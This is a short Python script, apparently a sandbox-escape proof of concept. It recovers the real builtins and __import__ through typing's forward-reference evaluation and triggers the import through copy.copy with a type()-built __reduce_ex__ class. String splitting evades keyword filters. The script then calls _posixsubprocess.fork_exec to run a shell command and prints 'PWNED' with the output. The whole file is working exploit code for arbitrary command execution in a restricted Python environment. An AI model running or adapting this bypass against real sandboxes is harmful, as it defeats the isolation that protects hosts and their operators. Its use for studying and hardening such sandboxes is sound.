# tramp: a class made by type() with a __reduce_ex__ key: copy.copy calls the real __import__ from copy's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
import copy
def via_copy(f, *args):
    # copy.copy calls the (callable, args) that __reduce_ex__ returns from copy's own frame;
    # the class is made by type(), so no `def __reduce_ex__` appears in the source
    R = type("R", (), {"__redu" + "ce_ex__": lambda self, proto: (f, args)})
    return copy.copy(R())

ps = via_copy(imp, "_posix" + "subprocess")
o = imp("o" + "s")
r, w = o.pipe()
er, ew = o.pipe()
argv = [b"/bin/sh", b"-c", b"id"]
pid = ps.fork_exec(argv, [argv[0]], True, (ew,), None, None, -1, -1, -1, w, -1, -1,
                   er, ew, True, False, -1, None, None, None, -1, None, False)
o.close(w)
o.close(ew)
out = o.read(r, 300)
if out:
    print(M, pid, out)
